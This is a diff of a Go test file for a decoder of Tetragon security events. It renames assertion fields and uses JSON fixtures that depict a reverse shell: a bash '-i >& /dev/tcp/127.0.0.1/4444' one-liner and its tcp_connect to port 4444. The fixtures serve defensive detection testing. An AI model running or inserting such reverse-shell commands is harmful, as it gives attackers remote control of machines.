@@ -42,7 +42,7 @@ func TestTetragonDecoder(t *testing.T) {
 	rtRun(t, FormatTetragon, []rtCase{
 		{name: "exec synthesizes its unseen parent", in: exec("2310"), kinds: []Kind{KindExec, KindExec}, check: func(t *testing.T, evs []*Event) {
 			p, c := evs[0], evs[1]
-			rtWant(t, "parent.Message", p.Message, synthParent)
+			rtWant(t, "parent.Synth", p.Synth, SynthParent)
 			rtWant(t, "parent.PID", p.PID, 2140)
 			rtWant(t, "parent.PPID", p.PPID, 2101) // from the parent's parent_exec_id
 			rtWant(t, "parent.Time", p.Time.Format("15:04:05"), "09:00:00")
@@ -72,7 +72,7 @@ func TestTetragonDecoder(t *testing.T) {
 		{name: "tcp_connect", kinds: []Kind{KindExec, KindConnect},
 			in: `{"process_kprobe":{"process":{"pid":"2312","binary":"/bin/bash","arguments":"-i"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","daddr":"127.0.0.1","dport":"4444"}}]},"time":"2026-03-14T10:20:37Z"}`,
 			check: func(t *testing.T, evs []*Event) {
-				rtWant(t, "synth.Message", evs[0].Message, synthProcess)
+				rtWant(t, "synth.Synth", evs[0].Synth, SynthProcess)
 				rtWant(t, "Peer", evs[1].Peer.String(), "127.0.0.1:4444")
 				if evs[1].Args != nil {
 					t.Errorf("connect carries Args %q", evs[1].Args)
@@ -96,7 +96,7 @@ func TestTetragonDecoder(t *testing.T) {
 		{name: "a cloned child acting before its exec is a fork, not an exec", kinds: []Kind{KindExec, KindFork, KindConnect},
 			in: fmt.Sprintf(`{"process_kprobe":{"process":{"exec_id":"c","pid":1605,"binary":"/usr/bin/bash","arguments":"-c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"","flags":"clone","parent_exec_id":%q},"parent":{"exec_id":%q,"pid":1604,"binary":"/usr/bin/bash","arguments":"-c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"","flags":"execve clone"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","daddr":"127.0.0.1","dport":4444}}]},"time":"2026-03-14T10:20:37Z"}`, tgExecID("w", 1604), tgExecID("w", 1604)),
 			check: func(t *testing.T, evs []*Event) {
-				rtWant(t, "parent.Message", evs[0].Message, synthParent)
+				rtWant(t, "parent.Synth", evs[0].Synth, SynthParent)
 				rtWant(t, "fork.PID", evs[1].PID, 1604)
 				rtWant(t, "fork.Child", evs[1].Child, 1605)
 				rtWant(t, "connect.PID", evs[2].PID, 1605)
